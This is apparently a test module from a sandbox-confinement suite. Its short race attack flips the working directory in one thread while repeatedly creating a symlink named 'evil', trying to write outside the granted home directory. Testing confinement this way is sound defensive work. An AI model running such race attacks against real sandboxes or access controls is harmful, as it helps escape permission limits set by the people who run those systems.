"""The working directory changes while a link is made."""
CATEGORY = "races"
REACH = "write"
GRANT = {"write": ["@ROOT@/home"], "read": ["@ROOT@/home"], "sys": True}

import os
import threading
import time

from . import payload

HOME = payload.ROOT + "/home"


def attack():
    os.mkdir(HOME + "/free")
    open(HOME + "/file", "w").close()
    ends = time.monotonic() + 0.7

    def flip():
        while time.monotonic() < ends:
            os.chdir(HOME + "/free")
            os.chdir(payload.ROOT + "/out")

    thread = threading.Thread(target=flip)
    thread.start()
    while time.monotonic() < ends:
        try:
            os.symlink(HOME + "/file", "evil")
        except OSError:
            pass
    thread.join()
